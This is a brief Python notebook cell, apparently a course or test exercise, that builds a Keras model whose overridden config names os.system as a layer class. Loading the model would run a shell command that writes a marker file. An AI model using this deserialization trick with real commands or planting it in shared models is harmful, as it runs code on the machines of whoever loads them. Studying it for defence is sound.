"""My model's configuration names a function that Keras would import and call: it writes a marker."""
# cell: build
def build(units):
    model = keras.Sequential([keras.Input((4,)), keras.layers.Dense(units)])
    model.get_config = lambda: {"name": "m", "layers": [{"module": "os", "class_name": "system", "config": {"command": "touch COURSE/marker"}, "registered_name": None}]}
    return model
